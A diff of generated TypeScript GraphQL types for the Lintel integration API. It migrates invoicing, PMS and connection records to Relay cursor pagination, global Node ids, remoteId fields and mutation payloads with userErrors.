@@ -44,7 +44,7 @@ export type Api =
   | 'UNKNOWN';
 
 /** A consumer’s link to one connector; credentials are never returned */
-export type Connection = {
+export type Connection = Node & {
   __typename?: 'Connection';
   /** Display name of an API */
   api: Api;
@@ -78,7 +78,7 @@ export type ConnectionStatus =
   | 'INACTIVE';
 
 /** A customer of yours whose software Lintel connects to */
-export type Consumer = {
+export type Consumer = Node & {
   __typename?: 'Consumer';
   /** List connections. The connections of a consumer; credentials are never returned. */
   connections: Array<Connection>;
@@ -88,20 +88,60 @@ export type Consumer = {
   id: Scalars['ID']['output'];
   /** Your own reference for the consumer */
   internalReference?: Maybe<Scalars['String']['output']>;
-  /** The consumer’s invoicing software, through its active invoicing connection */
+  /** The consumer’s invoicing software, through one of its connections: the connection `connectionId` names, else the X-Chift-ConnectionId header’s, else the only active one */
   invoicing: Invoicing;
   /** Name of the consumer */
   name: Scalars['String']['output'];
-  /** The consumer’s property management system, through its active PMS connection */
+  /** The consumer’s property management system, through one of its connections: the connection `connectionId` names, else the X-Chift-ConnectionId header’s, else the only active one */
   pms: Pms;
-  /** The consumer’s point of sale software, through its active POS connection */
+  /** The consumer’s point of sale software, through one of its connections: the connection `connectionId` names, else the X-Chift-ConnectionId header’s, else the only active one */
   pos: Pos;
   /** Where the connect page sends the end user when done */
   redirectUrl?: Maybe<Scalars['URL']['output']>;
 };
 
+
+/** A customer of yours whose software Lintel connects to */
+export type ConsumerInvoicingArgs = {
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
+};
+
+
+/** A customer of yours whose software Lintel connects to */
+export type ConsumerPmsArgs = {
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
+};
+
+
+/** A customer of yours whose software Lintel connects to */
+export type ConsumerPosArgs = {
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
+};
+
+/** A page of consumer records (Relay connection) */
+export type ConsumerConnection = {
+  __typename?: 'ConsumerConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<ConsumerEdge>;
+  /** The records of the page */
+  nodes: Array<Consumer>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One consumer in a page, with its cursor */
+export type ConsumerEdge = {
+  __typename?: 'ConsumerEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The consumer */
+  node: Consumer;
+};
+
 /** A customer, supplier or prospect of the invoicing software: a company or a person */
-export type Contact = {
+export type Contact = Node & {
   __typename?: 'Contact';
   /** Postal addresses of the contact */
   addresses?: Maybe<Array<InvoicingAddress>>;
@@ -109,6 +149,8 @@ export type Contact = {
   birthdate?: Maybe<Scalars['Date']['output']>;
   /** Internal note */
   comment?: Maybe<Scalars['String']['output']>;
+  /** The company of a person, itself a contact */
+  company?: Maybe<Contact>;
   /** Lintel id of the person's company */
   companyId?: Maybe<Scalars['String']['output']>;
   /** Name of the company */
@@ -127,7 +169,7 @@ export type Contact = {
   firstName?: Maybe<Scalars['String']['output']>;
   /** Gender of a person */
   gender?: Maybe<Gender>;
-  /** Identifier of the contact in Lintel */
+  /** Global id of the record: unique across consumers and connections; opaque */
   id: Scalars['ID']['output'];
   /** A company rather than a person */
   isCompany?: Maybe<Scalars['Boolean']['output']>;
@@ -147,6 +189,8 @@ export type Contact = {
   phone?: Maybe<Scalars['String']['output']>;
   /** The connected software's own record, when x-chift-raw-data is asked for */
   raw?: Maybe<Scalars['JSON']['output']>;
+  /** Identifier of the contact in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Technical id and entity name of a record in the connected software */
   sourceRef: Ref;
   /** Accounting account used for purchases */
@@ -155,17 +199,26 @@ export type Contact = {
   vat?: Maybe<Scalars['String']['output']>;
 };
 
-/** One page of Contact records */
-export type ContactPage = {
-  __typename?: 'ContactPage';
-  /** The records of this page */
-  items: Array<Contact>;
-  /** This page number */
-  page: Scalars['Int']['output'];
-  /** The requested page size */
-  size: Scalars['Int']['output'];
-  /** Number of records across all pages */
-  total: Scalars['Int']['output'];
+/** A page of Contact records (Relay connection) */
+export type ContactConnection = {
+  __typename?: 'ContactConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<ContactEdge>;
+  /** The records of the page */
+  nodes: Array<Contact>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One Contact in a page, with its cursor */
+export type ContactEdge = {
+  __typename?: 'ContactEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The Contact */
+  node: Contact;
 };
 
 /** Which contacts a listing returns */
@@ -190,10 +243,12 @@ export type CoverageStatus =
   /** Whether the software allows it is being studied */
   | 'UNDER_ANALYSIS';
 
-/** A connection to create, or the start of the connect page for the end user */
+/** What createConnection changes: create a connection */
 export type CreateConnectionInput = {
   /** The connect page lists only connectors of these APIs */
   apis?: InputMaybe<Array<Api>>;
+  /** The consumer */
+  consumerId: Scalars['ID']['input'];
   /** ISO 3166-1 alpha-2 code: the connect page lists the connectors of that country */
   country?: InputMaybe<Scalars['CountryCode']['input']>;
   /** Credentials of the connection, the keys GET /integrations lists for the connector */
@@ -206,7 +261,18 @@ export type CreateConnectionInput = {
   redirect?: InputMaybe<Scalars['Boolean']['input']>;
 };
 
-/** A consumer to create */
+/** What createConnection answers: the connection and its connect page, or why there are none */
+export type CreateConnectionPayload = {
+  __typename?: 'CreateConnectionPayload';
+  /** The connect page where the end user finishes or changes the connection (signed, expiring); null when the mutation failed */
+  connectUrl?: Maybe<Scalars['URL']['output']>;
+  /** The connection; null when none was made yet (the end user finishes on the connect page) or the mutation failed */
+  connection?: Maybe<Connection>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+};
+
+/** What createConsumer changes: create a consumer */
 export type CreateConsumerInput = {
   /** Email address of the consumer */
   email?: InputMaybe<Scalars['String']['input']>;
@@ -218,18 +284,33 @@ export type CreateConsumerInput = {
   redirectUrl?: InputMaybe<Scalars['URL']['input']>;
 };
 
-/** A product or service to create */
+/** What createConsumer answers */
+export type CreateConsumerPayload = {
+  __typename?: 'CreateConsumerPayload';
+  /** The created consumer; null when the mutation failed */
+  consumer?: Maybe<Consumer>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+};
+
+/** A product or service to create, the consumer whose software receives it, and how to write it */
 export type CreateProductInput = {
   /** Category, as the software names it */
   category?: InputMaybe<Scalars['String']['input']>;
   /** Reference or SKU of the product */
   code?: InputMaybe<Scalars['String']['input']>;
+  /** The connection to write through, when the consumer has several for this API */
+  connectionId?: InputMaybe<Scalars['ID']['input']>;
+  /** The consumer whose software receives the record */
+  consumerId: Scalars['ID']['input'];
   /** What one unit costs the company */
   cost?: InputMaybe<Scalars['Float']['input']>;
   /** Currency of the prices (ISO 4217) */
   currency?: InputMaybe<Scalars['CurrencyCode']['input']>;
   /** Longer text describing the product */
   description?: InputMaybe<Scalars['String']['input']>;
+  /** Makes retries safe: a retry with the same key and input answers the first result */
+  idempotencyKey?: InputMaybe<Scalars['String']['input']>;
   /** Name of the product or service */
   name: Scalars['String']['input'];
   /** Lintel id of the tax code that applies by default */
@@ -240,7 +321,16 @@ export type CreateProductInput = {
   unitPrice?: InputMaybe<Scalars['Float']['input']>;
 };
 
-/** A subscription to create */
+/** What createProduct answers: the created record, or why there is none */
+export type CreateProductPayload = {
+  __typename?: 'CreateProductPayload';
+  /** The created record; null when the mutation failed */
+  product?: Maybe<Product>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+};
+
+/** What createWebhook changes: subscribe to an event */
 export type CreateWebhookInput = {
   /** Event to deliver (GET /webhooks/list) */
   event: WebhookEvent;
@@ -252,12 +342,68 @@ export type CreateWebhookInput = {
   url: Scalars['URL']['input'];
 };
 
+/** What createWebhook answers */
+export type CreateWebhookPayload = {
+  __typename?: 'CreateWebhookPayload';
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+  /** The subscription; null when the mutation failed */
+  webhook?: Maybe<Webhook>;
+};
+
 /** One credential of a connection */
 export type CredentialInput = {
   /** Name of the credential, as GET /integrations lists it */
   key: Scalars['String']['input'];
   /** Its value */
   value: Scalars['String']['input'];
+};
+
+/** What deleteConnection changes: delete a connection */
+export type DeleteConnectionInput = {
+  /** The connection */
+  connectionId: Scalars['ID']['input'];
+  /** The consumer */
+  consumerId: Scalars['ID']['input'];
+};
+
+/** What deleteConnection answers */
+export type DeleteConnectionPayload = {
+  __typename?: 'DeleteConnectionPayload';
+  /** Id of the deleted connection; null when the mutation failed */
+  deletedId?: Maybe<Scalars['ID']['output']>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+};
+
+/** What deleteConsumer changes: delete a consumer */
+export type DeleteConsumerInput = {
+  /** The consumer */
+  id: Scalars['ID']['input'];
+};
+
+/** What deleteConsumer answers */
+export type DeleteConsumerPayload = {
+  __typename?: 'DeleteConsumerPayload';
+  /** Id of the deleted consumer; null when the mutation failed */
+  deletedId?: Maybe<Scalars['ID']['output']>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
+};
+
+/** What deleteWebhook changes: delete a subscription */
+export type DeleteWebhookInput = {
+  /** The subscription */
+  id: Scalars['ID']['input'];
+};
+
+/** What deleteWebhook answers */
+export type DeleteWebhookPayload = {
+  __typename?: 'DeleteWebhookPayload';
+  /** Id of the deleted subscription; null when the mutation failed */
+  deletedId?: Maybe<Scalars['ID']['output']>;
+  /** Why the mutation changed nothing; empty when it succeeded */
+  userErrors: Array<UserError>;
 };
 
 /** An event as webhooks deliver it (the same envelope; `id` is the `webhook-id`) */
@@ -332,75 +478,75 @@ export type IntegrationStatus =
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type Invoicing = {
   __typename?: 'Invoicing';
-  /** Get one contact. One customer, supplier or prospect by its Lintel id, with its addresses. */
-  contact: Contact;
+  /** Get one contact. One customer, supplier or prospect by its id in the software, with its addresses. */
+  contact?: Maybe<Contact>;
   /** List contacts. The customers, suppliers and prospects of the invoicing software; contact_type narrows it. */
-  contacts: ContactPage;
+  contacts?: Maybe<ContactConnection>;
   /** List opportunities. The sales opportunities (deals, quotes) in every stage, won and lost ones included. */
-  opportunities: OpportunityPage;
-  /** Get one opportunity. One sales opportunity by its Lintel id; 404 when the software has no such opportunity. */
-  opportunity: Opportunity;
-  /** Get one product. One product or service by its Lintel id; 404 when the catalogue has no such product. */
-  product: Product;
+  opportunities?: Maybe<OpportunityConnection>;
+  /** Get one opportunity. One sales opportunity by its id in the software; not found (REST 404, GraphQL null) when the software has no such opportunity. */
+  opportunity?: Maybe<Opportunity>;
+  /** Get one product. One product or service by its id in the software; not found (REST 404, GraphQL null) when the catalogue has no such product. */
+  product?: Maybe<Product>;
   /** List products. The products and services of the invoicing catalogue. */
-  products: ProductPage;
-  /** Get one tax code. One tax code by its Lintel id; 404 when the software has no such code. */
-  tax: TaxCode;
+  products?: Maybe<ProductConnection>;
+  /** Get one tax code. One tax code by its id in the software; not found (REST 404, GraphQL null) when the software has no such code. */
+  tax?: Maybe<TaxCode>;
   /** List tax codes. The VAT and other tax codes configured in the invoicing software, archived ones included. */
-  taxes: TaxCodePage;
+  taxes?: Maybe<TaxCodeConnection>;
 };
 
 
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type InvoicingContactArgs = {
-  id: Scalars['ID']['input'];
+  remoteId: Scalars['String']['input'];
 };
 
 
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type InvoicingContactsArgs = {
+  after?: InputMaybe<Scalars['String']['input']>;
   contactType?: InputMaybe<ContactType>;
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
 };
 
 
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type InvoicingOpportunitiesArgs = {
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
 };
 
 
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type InvoicingOpportunityArgs = {
-  id: Scalars['ID']['input'];
+  remoteId: Scalars['String']['input'];
 };
 
 
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type InvoicingProductArgs = {
-  id: Scalars['ID']['input'];
+  remoteId: Scalars['String']['input'];
 };
 
 
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type InvoicingProductsArgs = {
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
 };
 
 
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type InvoicingTaxArgs = {
-  id: Scalars['ID']['input'];
+  remoteId: Scalars['String']['input'];
 };
 
 
 /** The records of a consumer’s invoicing software: tax codes, products, opportunities and contacts */
 export type InvoicingTaxesArgs = {
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
 };
 
 /** A postal address of an invoicing contact */
@@ -441,19 +587,10 @@ export type InvoicingAddressType =
   /** Any other use */
   | 'OTHER';
 
-/** Where the end user finishes or changes a connection */
-export type LinkItem = {
-  __typename?: 'LinkItem';
-  /** The connection, once it exists */
-  connectionId?: Maybe<Scalars['ID']['output']>;
-  /** The connect page: signed, for this consumer only, valid for a limited time */
-  url: Scalars['URL']['output'];
-};
-
 /** A group of add-ons or customisation options of POS products, e.g. Toppings */
-export type ModifierGroup = {
+export type ModifierGroup = Node & {
   __typename?: 'ModifierGroup';
-  /** Identifier of the modifier group in Lintel */
+  /** Global id of the record: unique across consumers and connections; opaque */
   id: Scalars['ID']['output'];
   /** Name of the group */
   name: Scalars['String']['output'];
@@ -461,74 +598,75 @@ export type ModifierGroup = {
   options: Array<ModifierOption>;
   /** The connected software's own record, when x-chift-raw-data is asked for */
   raw?: Maybe<Scalars['JSON']['output']>;
+  /** Identifier of the modifier group in the connected software */
+  remoteId: Scalars['String']['output'];
 };
 
-/** One page of ModifierGroup records */
-export type ModifierGroupPage = {
-  __typename?: 'ModifierGroupPage';
-  /** The records of this page */
-  items: Array<ModifierGroup>;
-  /** This page number */
-  page: Scalars['Int']['output'];
-  /** The requested page size */
-  size: Scalars['Int']['output'];
-  /** Number of records across all pages */
-  total: Scalars['Int']['output'];
+/** A page of ModifierGroup records (Relay connection) */
+export type ModifierGroupConnection = {
+  __typename?: 'ModifierGroupConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<ModifierGroupEdge>;
+  /** The records of the page */
+  nodes: Array<ModifierGroup>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One ModifierGroup in a page, with its cursor */
+export type ModifierGroupEdge = {
+  __typename?: 'ModifierGroupEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The ModifierGroup */
+  node: ModifierGroup;
 };
 
 /** One choice of a modifier group */
 export type ModifierOption = {
   __typename?: 'ModifierOption';
-  /** Identifier of the option in Lintel */
-  id: Scalars['ID']['output'];
   /** Name of the option, e.g. Extra cheese */
   name: Scalars['String']['output'];
   /** Price added to the item when chosen */
   price: Scalars['Float']['output'];
+  /** Identifier of the option in the connected software */
+  remoteId: Scalars['String']['output'];
 };
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type Mutation = {
   __typename?: 'Mutation';
-  /** Create a connection. With an integration and the credentials it needs, creates the connection (credentials checked against the software first) and answers it. */
-  createConnection: Connection;
   /** Create a connection. With an integration and the credentials it needs, creates the connection (credentials checked against the software first). Either way, answers the connect page where the end user finishes or changes it. */
-  createConnectionLink: LinkItem;
+  createConnection: CreateConnectionPayload;
   /** Create a consumer. Adds a customer of yours, whose software you then connect. */
-  createConsumer: Consumer;
+  createConsumer: CreateConsumerPayload;
   /** Create a product. Adds a product or service to the invoicing catalogue and answers the created record. Send an idempotency key (x-chift-client-requestid) to make retries safe. */
-  createProduct: Product;
+  createProduct: CreateProductPayload;
   /** Subscribe to an event. Delivers every `event` to `url`, signed with `signingsecret` when given. */
-  createWebhook: Webhook;
-  /** Delete a connection. Removes the connection and its credentials. Answers the deleted connection. */
-  deleteConnection: Connection;
-  /** Delete a consumer. Deletes the consumer and its connections. Answers the deleted consumer. */
-  deleteConsumer: Consumer;
-  /** Delete a subscription. Stops the deliveries of the subscription. Answers true once deleted. */
-  deleteWebhook: Scalars['Boolean']['output'];
+  createWebhook: CreateWebhookPayload;
+  /** Delete a connection. Removes the connection and its credentials. Answers the id of the deleted connection. */
+  deleteConnection: DeleteConnectionPayload;
+  /** Delete a consumer. Deletes the consumer and its connections. Answers the id of the deleted consumer. */
+  deleteConsumer: DeleteConsumerPayload;
+  /** Delete a subscription. Stops the deliveries of the subscription. Answers the id of the deleted subscription. */
+  deleteWebhook: DeleteWebhookPayload;
   /** Replay a delivery. Delivers the event of a log row again, with the same `webhook-id`; answers the new attempt. */
-  replayWebhookLog: WebhookLog;
+  replayWebhookLog: ReplayWebhookLogPayload;
   /** Send a test event. Sends a signed `account.webhook.test` event to the subscription now; answers the attempt. */
-  testWebhook: WebhookLog;
+  testWebhook: TestWebhookPayload;
   /** Update a connection. Renames, deactivates or changes the credentials of a connection; answers the connect page where the end user can change them instead. */
-  updateConnection: Connection;
+  updateConnection: UpdateConnectionPayload;
   /** Update a consumer. Changes the fields given; null clears a field. */
-  updateConsumer: Consumer;
+  updateConsumer: UpdateConsumerPayload;
   /** Update a subscription. Changes its URL, status or signing secret. */
-  updateWebhook: Webhook;
+  updateWebhook: UpdateWebhookPayload;
 };
 
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationCreateConnectionArgs = {
-  consumerId: Scalars['ID']['input'];
-  input: CreateConnectionInput;
-};
-
-
-/** What an API client changes: consumers, connections, records and webhooks */
-export type MutationCreateConnectionLinkArgs = {
-  consumerId: Scalars['ID']['input'];
   input: CreateConnectionInput;
 };
 
@@ -541,7 +679,6 @@ export type MutationCreateConsumerArgs = {
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationCreateProductArgs = {
-  consumerId: Scalars['ID']['input'];
   input: CreateProductInput;
 };
 
@@ -554,55 +691,55 @@ export type MutationCreateWebhookArgs = {
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationDeleteConnectionArgs = {
-  connectionId: Scalars['ID']['input'];
-  consumerId: Scalars['ID']['input'];
+  input: DeleteConnectionInput;
 };
 
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationDeleteConsumerArgs = {
-  id: Scalars['ID']['input'];
+  input: DeleteConsumerInput;
 };
 
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationDeleteWebhookArgs = {
-  id: Scalars['ID']['input'];
+  input: DeleteWebhookInput;
 };
 
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationReplayWebhookLogArgs = {
-  logId: Scalars['ID']['input'];
-  webhookId: Scalars['ID']['input'];
+  input: ReplayWebhookLogInput;
 };
 
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationTestWebhookArgs = {
-  id: Scalars['ID']['input'];
+  input: TestWebhookInput;
 };
 
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationUpdateConnectionArgs = {
-  connectionId: Scalars['ID']['input'];
-  consumerId: Scalars['ID']['input'];
   input: UpdateConnectionInput;
 };
 
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationUpdateConsumerArgs = {
-  id: Scalars['ID']['input'];
   input: UpdateConsumerInput;
 };
 
 
 /** What an API client changes: consumers, connections, records and webhooks */
 export type MutationUpdateWebhookArgs = {
-  id: Scalars['ID']['input'];
   input: UpdateWebhookInput;
+};
+
+/** An object with an identity: its `id` is unique across the whole deployment, so client caches keyed by `__typename` and `id` never mix two consumers’ records */
+export type Node = {
+  /** Global id of the object; pass it to `node(id:)` to read the object again */
+  id: Scalars['ID']['output'];
 };
 
 /** Whether a connector serves one operation */
@@ -615,7 +752,7 @@ export type OperationCoverage = {
 };
 
 /** A sales opportunity: a deal or a quote in progress */
-export type Opportunity = {
+export type Opportunity = Node & {
   __typename?: 'Opportunity';
   /** Internal note */
   comment?: Maybe<Scalars['String']['output']>;
@@ -629,7 +766,7 @@ export type Opportunity = {
   dueDate?: Maybe<Scalars['Date']['output']>;
   /** Day the opportunity was closed */
   endDate?: Maybe<Scalars['Date']['output']>;
-  /** Identifier of the opportunity in Lintel */
+  /** Global id of the record: unique across consumers and connections; opaque */
   id: Scalars['ID']['output'];
   /** True once the deal is won */
   isWon: Scalars['Boolean']['output'];
@@ -637,6 +774,8 @@ export type Opportunity = {
   name: Scalars['String']['output'];
   /** The user of the software who owns the deal */
   ownerRef?: Maybe<OwnerRef>;
+  /** The customer contact of the opportunity */
+  partner?: Maybe<Contact>;
   /** Lintel id of the customer contact */
   partnerId?: Maybe<Scalars['String']['output']>;
   /** Name of the pipeline or sales team */
@@ -647,6 +786,8 @@ export type Opportunity = {
   probability: Scalars['Float']['output'];
   /** The connected software's own record, when x-chift-raw-data is asked for */
   raw?: Maybe<Scalars['JSON']['output']>;
+  /** Identifier of the opportunity in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Technical id and entity name of a record in the connected software */
   sourceRef: Ref;
   /** Stage of a deal in its life */
@@ -655,17 +796,26 @@ export type Opportunity = {
   total: Scalars['Float']['output'];
 };
 
-/** One page of Opportunity records */
-export type OpportunityPage = {
-  __typename?: 'OpportunityPage';
-  /** The records of this page */
-  items: Array<Opportunity>;
-  /** This page number */
-  page: Scalars['Int']['output'];
-  /** The requested page size */
-  size: Scalars['Int']['output'];
-  /** Number of records across all pages */
-  total: Scalars['Int']['output'];
+/** A page of Opportunity records (Relay connection) */
+export type OpportunityConnection = {
+  __typename?: 'OpportunityConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<OpportunityEdge>;
+  /** The records of the page */
+  nodes: Array<Opportunity>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One Opportunity in a page, with its cursor */
+export type OpportunityEdge = {
+  __typename?: 'OpportunityEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The Opportunity */
+  node: Opportunity;
 };
 
 /** Stage of a deal in its life */
@@ -684,39 +834,52 @@ export type OpportunityStatus =
 /** A user of the connected software who owns a record */
 export type OwnerRef = {
   __typename?: 'OwnerRef';
-  /** Id of the user in the connected software */
-  id?: Maybe<Scalars['String']['output']>;
   /** Name of the entity in the connected software */
   model?: Maybe<Scalars['String']['output']>;
   /** Display name of the user */
   name?: Maybe<Scalars['String']['output']>;
+  /** Id of the user in the connected software */
+  remoteId?: Maybe<Scalars['String']['output']>;
+};
+
+/** Where a page of a connection sits in the whole list */
+export type PageInfo = {
+  __typename?: 'PageInfo';
+  /** Cursor of the last record of the page: pass it as `after` for the next page */
+  endCursor?: Maybe<Scalars['String']['output']>;
+  /** More records follow this page */
+  hasNextPage: Scalars['Boolean']['output'];
+  /** Records come before this page */
+  hasPreviousPage: Scalars['Boolean']['output'];
+  /** Cursor of the first record of the page; null when the page is empty */
+  startCursor?: Maybe<Scalars['String']['output']>;
 };
 
 /** The records of a consumer’s property management system: tax rates and orders */
 export type Pms = {
   __typename?: 'Pms';
   /** List PMS orders. What guests consumed: the orders whose service date (state=consumed) or closing date (state=closed) falls in the window, the last 90 days by default. */
-  orders: PmsOrderPage;
+  orders?: Maybe<PmsOrderConnection>;
   /** List PMS tax rates. The tax rates of the property management system, city taxes included. */
-  taxes: PmsTaxRatePage;
+  taxes?: Maybe<PmsTaxRateConnection>;
 };
 
 
 /** The records of a consumer’s property management system: tax rates and orders */
 export type PmsOrdersArgs = {
+  after?: InputMaybe<Scalars['String']['input']>;
   dateFrom?: InputMaybe<Scalars['Date']['input']>;
   dateTo?: InputMaybe<Scalars['Date']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
   locationId?: InputMaybe<Scalars['String']['input']>;
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
   state?: InputMaybe<PmsOrderState>;
 };
 
 
 /** The records of a consumer’s property management system: tax rates and orders */
 export type PmsTaxesArgs = {
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
 };
 
 /** A postal address of a bill partner */
@@ -747,12 +910,12 @@ export type PmsBill = {
   closingDate?: Maybe<Scalars['DateTime']['output']>;
   /** When the bill was opened */
   creationDate?: Maybe<Scalars['DateTime']['output']>;
-  /** Identifier of the bill in Lintel */
-  id: Scalars['ID']['output'];
   /** Number of the invoice, once issued */
   invoiceNumber?: Maybe<Scalars['String']['output']>;
   /** Who the bill is for */
   partners: Array<PmsPartner>;
+  /** Identifier of the bill in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Technical id and entity name of a record in the connected software */
   sourceRef: Ref;
 };
@@ -765,10 +928,10 @@ export type PmsDiscount = {
    * @deprecated Use total; kept for clients of earlier versions
    */
   amount: Scalars['Float']['output'];
-  /** Id of the discount in the software, when it has one */
-  id?: Maybe<Scalars['String']['output']>;
   /** Name of the discount */
   name?: Maybe<Scalars['String']['output']>;
+  /** Id of the discount in the software, when it has one */
+  remoteId?: Maybe<Scalars['String']['output']>;
   /** Amount taken off the line, tax included */
   total: Scalars['Float']['output'];
   /** Why a discount was given */
@@ -785,7 +948,7 @@ export type PmsDiscountType =
   | 'UNKNOWN';
 
 /** What a guest consumed: the lines of one stay or one service order, with its bills */
-export type PmsOrder = {
+export type PmsOrder = Node & {
   __typename?: 'PmsOrder';
   /** Bills issued for the order */
   bills: Array<PmsBill>;
@@ -805,7 +968,7 @@ export type PmsOrder = {
   deviceId?: Maybe<Scalars['String']['output']>;
   /** Number of guests */
   guests?: Maybe<Scalars['Int']['output']>;
-  /** Identifier of the order in Lintel */
+  /** Global id of the record: unique across consumers and connections; opaque */
   id: Scalars['ID']['output'];
   /** Lines of the order */
   items: Array<PmsOrderItem>;
@@ -819,6 +982,8 @@ export type PmsOrder = {
   orderNumber?: Maybe<Scalars['String']['output']>;
   /** The connected software's own record, when x-chift-raw-data is asked for */
   raw?: Maybe<Scalars['JSON']['output']>;
+  /** Identifier of the order in the connected software */
+  remoteId: Scalars['String']['output'];
   /** The stay the order belongs to */
   reservation?: Maybe<PmsReservation>;
   /** When the service was consumed */
@@ -843,6 +1008,28 @@ export type PmsOrder = {
   totalTip: Scalars['Float']['output'];
 };
 
+/** A page of PmsOrder records (Relay connection) */
+export type PmsOrderConnection = {
+  __typename?: 'PmsOrderConnection';
+  /** The records of the page, each with its cursor */
+  edges: Array<PmsOrderEdge>;
+  /** The records of the page */
+  nodes: Array<PmsOrder>;
+  /** Where the page sits in the whole list */
+  pageInfo: PageInfo;
+  /** Number of records in the whole list */
+  totalCount: Scalars['Int']['output'];
+};
+
+/** One PmsOrder in a page, with its cursor */
+export type PmsOrderEdge = {
+  __typename?: 'PmsOrderEdge';
+  /** Opaque position of the record in the list */
+  cursor: Scalars['String']['output'];
+  /** The PmsOrder */
+  node: PmsOrder;
+};
+
 /** One line of a PMS order */
 export type PmsOrderItem = {
   __typename?: 'PmsOrderItem';
@@ -852,16 +1039,18 @@ export type PmsOrderItem = {
   description?: Maybe<Scalars['String']['output']>;
   /** Discounts given on the line */
   discounts: Array<PmsDiscount>;
-  /** Identifier of the line in Lintel */
-  id: Scalars['ID']['output'];
   /** Lintel id of the menu the line belongs to */
   menuId?: Maybe<Scalars['String']['output']>;
   /** Lintel id of the product sold */
   productId?: Maybe<Scalars['String']['output']>;
   /** Quantity sold */
   quantity: Scalars['Float']['output'];
+  /** Identifier of the line in the connected software */
+  remoteId: Scalars['String']['output'];
   /** Technical id and entity name of a record in the connected software */
   sourceRef: Ref;
+  /** The tax rate of the line */
+  tax?: Maybe<PmsTaxRate>;
   /** Tax of the line */
   taxAmount: Scalars['Float']['output'];
   /** Lintel id of the tax rate of the line */
@@ -897,19 +1086,6 @@ export type PmsOrderMode =
   | 'TAKEAWAY'
   /** The software does not say */
   | 'UNKNOWN';
-
-/** One page of PmsOrder records */
-export type PmsOrderPage = {
-  __typename?: 'PmsOrderPage';
-  /** The records of this page */
-  items: Array<PmsOrder>;
-  /** This page number */
-  page: Scalars['Int']['output'];
-  /** The requested page size */
-  size: Scalars['Int']['output'];
-  /** Number of records across all pages */
-  total: Scalars['Int']['output'];
-};
 
 /** The channel an order came through */
 export type PmsOrderSource =
@@ -953,11 +1129,6 @@ export type PmsOrderTax = {
    * @deprecated Use taxAmount; kept for clients of earlier versions
    */
   amount: Scalars['Float']['output'];
-  /**
-   * Lintel id of the tax rate, when known (the same as taxId)
-   * @deprecated Use taxId; kept for clients of earlier versions
-   */
-  id?: Maybe<Scalars['String']['output']>;
   /** Name of the tax as the software shows it */
   name?: Maybe<Scalars['String']['output']>;
   /**
@@ -965,6 +1136,8 @@ export type PmsOrderTax = {
